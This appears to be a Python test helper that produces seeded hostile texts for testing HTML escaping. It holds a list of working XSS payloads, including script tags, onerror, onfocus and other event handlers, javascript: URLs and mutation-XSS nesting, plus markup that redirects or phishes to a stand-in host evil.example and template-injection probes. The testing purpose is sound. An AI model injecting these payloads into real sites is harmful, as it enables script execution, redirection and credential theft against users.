"""Texts that would do something if a page took them for more than text; seeded, the same each time."""

from __future__ import annotations

from random import Random
from typing import Final

from support.hostile import FRAGMENTS

MARK: Final = "window.pwned=1"
"""What a script of theirs would do."""

ATTACKS: Final = (
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"<!--<script>{MARK}</script>-->",
    f'<img src=x onerror="{MARK}">',
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f'"><body onpageshow="{MARK}">',
    f"' autofocus onfocus='{MARK}' x='",
    f"<input autofocus onfocus={MARK}>",
    f'<details open ontoggle="{MARK}">',
    f'<a href="javascript:{MARK}">click</a>',
    f"javascript:{MARK}",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<object data='data:text/html,<script>{MARK}</script>'></object>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example><button>log in</button></form>",
    "&lt;script&gt;&#x3c;script&#62;",
    "{{ 7*7 }}{% raw %}{{ cycler.__init__ }}",
    f"${{{MARK}}}`${{{MARK}}}`",
    "]]></textarea></title></style></noscript>",
    "\u202e\u2066 txet desrever \u2069",
    "\ud800 a broken surrogate \udfff",
)
LONG_CHARS: Final = 10_000


def hostile_texts(count: int) -> list[str]:
    """Return so many different texts; every 25th has 10,000 characters."""
    random = Random(5)
    found = []
    for number in range(count):
        attack = ATTACKS[number % len(ATTACKS)]
        text = f"{number} {attack} {''.join(random.sample(FRAGMENTS, 3))} {number}"
        found.append((text * LONG_CHARS)[:LONG_CHARS] if number % 25 == 24 else text)
    return found
